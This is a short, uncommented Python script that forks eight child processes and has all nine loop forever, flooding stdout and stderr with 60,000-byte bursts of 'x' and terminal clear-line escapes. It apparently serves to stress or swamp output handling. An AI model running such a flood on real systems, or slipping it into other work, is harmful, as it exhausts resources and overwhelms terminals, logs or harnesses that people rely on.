import os

for _ in range(8):
    if os.fork() == 0: break
while True:
    for fd in (2, 1):
        os.write(fd, b"\r\x1b[2K" + b"x" * 60_000)
